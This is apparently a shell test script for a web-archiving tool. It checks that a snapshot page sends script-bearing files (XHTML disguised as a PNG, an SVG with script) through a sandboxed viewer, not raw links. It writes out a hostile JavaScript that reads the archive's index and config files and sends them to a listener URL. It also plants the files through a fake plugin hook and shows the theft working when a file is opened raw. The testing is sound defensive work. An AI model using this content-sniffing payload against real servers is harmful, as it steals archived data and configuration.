#!/bin/sh
# The viewer by allowlist (abx(7) SECURITY): the snapshot page links a file
# raw only when its name, its bytes (and a recorded Content-Type) all say a
# type a browser shows without running scripts; anything else goes through
# the sandboxed viewer.  A hook saves XHTML under an image name (image.png)
# and an SVG with a script, beside a real PNG.  Served over HTTP by a static
# server that sends no Content-Type (the browser then judges the bytes, as
# some servers leave it to), the XHTML's script reads /index.jsonl and
# /abx.conf when it is opened raw; opened from the snapshot page, neither
# file's script reads anything of the archive, and the real PNG is still
# linked raw.
. "$(dirname "$0")/lib/tap.sh"
. "$(dirname "$0")/lib/httpd.sh"
command -v chromium >/dev/null 2>&1 || { echo "1..0 # SKIP chromium not installed (tests/lib/deps.sh)"; exit 0; }

# the listener: the test httpd, logging every request path
httpd_start --log "$T/report.log" || exit 1
LISTEN=$BASE

# the hostile script: read the archive's root files, report what it got
# (one report, so that none is lost when chromium dumps the page)
cat >"$T/hostile.js" <<EOS
function get(p) {
	return fetch(p).then(function (r) { return r.text(); })
		.then(function (t) { return "read:" + p + ":" + t.slice(0, 300); },
		      function (e) { return "error:" + p + ":" + e; });
}
Promise.all([get("/index.jsonl"), get("/abx.conf")]).then(function (v) {
	fetch("$LISTEN/report?" + encodeURIComponent(v.join(" ")), {mode: "no-cors"});
});
EOS
mkdir -p "$T/plugins/evil"
{
	echo '<?xml version="1.0" encoding="utf-8"?>'
	echo '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>hostile</title></head>'
	echo '<body><p>hostile xhtml</p><script><![CDATA['
	cat "$T/hostile.js"
	echo ']]></script></body></html>'
} >"$T/image.png"
{
	echo '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA['
	cat "$T/hostile.js"
	echo ']]></script></svg>'
} >"$T/drawing.svg"
# a real PNG, 1x1
echo 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==' |
	base64 -d >"$T/real.png"
printf 'plain text, nothing to run\n' >"$T/notes.txt"
printf 'wOF2\000\001\000\000 not a document' >"$T/font.woff2"
cat >"$T/plugins/evil/on_Snapshot__50_evil.sh" <<EOS
#!/bin/sh
cp "$T/image.png" "$T/drawing.svg" "$T/real.png" "$T/notes.txt" "$T/font.woff2" .
echo '{"type":"ArchiveResult","status":"succeeded","output_str":"image.png"}'
EOS
chmod +x "$T/plugins/evil/on_Snapshot__50_evil.sh"
ABX_PLUGINS_DIR=$T/plugins
export ABX_PLUGINS_DIR

D=$T/data
C=$(abx-add -d "$D" --plugins evil http://127.0.0.1:9/hostile | jq -r .id)
expect_exit 0 "the hostile files are archived" abx-tick -d "$D"
S=$(abx-ls -d "$D" -k snapshot --jsonl | jq -r .id)
ok "the archive has index.jsonl and abx.conf at its root" test -s "$D/index.jsonl" -a -s "$D/abx.conf"
ok "and the hostile files in its snapshot" test -s "$D/crawls/$C/$S/evil/image.png" -a -s "$D/crawls/$C/$S/evil/drawing.svg"

# the archive served over HTTP by a server that sends no Content-Type
cat >"$T/untyped.py" <<'EOS'
import functools, http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    def send_header(self, k, v):
        if k.lower() != "content-type":
            super().send_header(k, v)
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(H, directory=sys.argv[1]))
with open(sys.argv[2] + ".tmp", "w") as f:
    f.write(str(s.server_address[1]))
import os; os.rename(sys.argv[2] + ".tmp", sys.argv[2])
s.serve_forever()
EOS
python3 "$T/untyped.py" "$D" "$T/untyped.port" 2>"$T/untyped.err" &
# and by one that types files by their names
python3 "$TOP/tests/httpd.py" --root "$D" --port-file "$T/typed.port" 2>"$T/typed.err" &
wait_for 30 test -s "$T/untyped.port" -a -s "$T/typed.port" ||
	{ echo "Bail out! the archive's servers did not start: $(cat "$T/untyped.err" "$T/typed.err")"; exit 1; }
UNTYPED="http://127.0.0.1:$(cat "$T/untyped.port")"
TYPED="http://127.0.0.1:$(cat "$T/typed.port")"
DIR=crawls/$C/$S
PAGE=$DIR/index.html

# link TEXT [BASE]: the snapshot page's href for the link whose text is
# TEXT; with BASE, the URL it leads to from the page served at BASE
link() {
	python3 - "$D/$PAGE" "$1" "${2:-}" <<'EOS'
import html.parser, sys, urllib.parse
class P(html.parser.HTMLParser):
    cur = None; found = None
    def handle_starttag(self, tag, attrs):
        if tag == "a": self.cur = dict(attrs).get("href")
    def handle_data(self, d):
        if self.cur is not None and d.strip() == sys.argv[2] and self.found is None: self.found = self.cur
    def handle_endtag(self, tag):
        if tag == "a": self.cur = None
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
h = p.found or ""
print(urllib.parse.urljoin(sys.argv[3], h) if h and sys.argv[3] else h)
EOS
}

# browse URL: load URL in headless chromium until its scripts settle; the DOM in $T/dom.html
browse() {
	_sb=
	[ "$(id -u)" -eq 0 ] && _sb=--no-sandbox   # the test's browser: root has no sandbox
	timeout -k 5 60 chromium --headless $_sb --disable-gpu --disable-dev-shm-usage --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync \
		--user-data-dir="$T/profile" --virtual-time-budget=5000 --dump-dom "$1" \
		>"$T/dom.html" 2>"$T/chromium.err"
}
reports() { grep -c '^/report' "$T/report.log"; }
# nothing of the archive reached the listener: no read, no snapshot id
no_leak() { ! grep -Eq "read%3A|$S" "$T/report.log"; }

is "$(link real.png)" "evil/real.png" "a real PNG is linked raw"
is "$(link notes.txt)" "evil/notes.txt" "plain text is linked raw"
ok "a font is offered as a download" grep -q '<a download href="evil/font.woff2">' "$D/$PAGE"
for f in image.png drawing.svg; do
	h=$(link $f)
	like "$h" '^\?view=[0-9]+$' "$f is linked through the viewer, not raw (got '$h')"
done

# each hostile file, opened from the snapshot page's link, over the server
# under which it runs when opened raw: the XHTML where the bytes are
# judged, the SVG where the name is
for case in "image.png $UNTYPED" "drawing.svg $TYPED"; do
	f=${case%% *} srv=${case#* }
	: >"$T/report.log"
	ok "chromium opens $f from the snapshot page" browse "$(link "$f" "$srv/$PAGE")"
	like "$(cat "$T/dom.html")" '<iframe sandbox="allow-scripts allow-forms allow-popups"' \
		"the viewer shows it in an iframe sandbox without allow-same-origin"
	wait_for 10 test "$(reports)" -ge 1
	is "$(reports)" 1 "$f's script ran in the sandbox and reported"
	like "$(cat "$T/report.log")" '^/report\?error%3A%2Findex\.jsonl.*error%3A%2Fabx\.conf' \
		"its reads of /index.jsonl and /abx.conf failed"
	ok "nothing of the archive reached the listener" no_leak
done

# the control: opened raw from the untyped server, the XHTML runs and reads the archive
: >"$T/report.log"
ok "chromium opens image.png raw" browse "$UNTYPED/$DIR/evil/image.png"
wait_for 10 test "$(reports)" -ge 1
like "$(cat "$T/report.log")" "^/report\\?read%3A%2Findex\\.jsonl.*$S" \
	"opened raw, it reads /index.jsonl (why the bytes are judged)"
like "$(cat "$T/report.log")" 'read%3A%2Fabx\.conf' "and /abx.conf"
done_testing
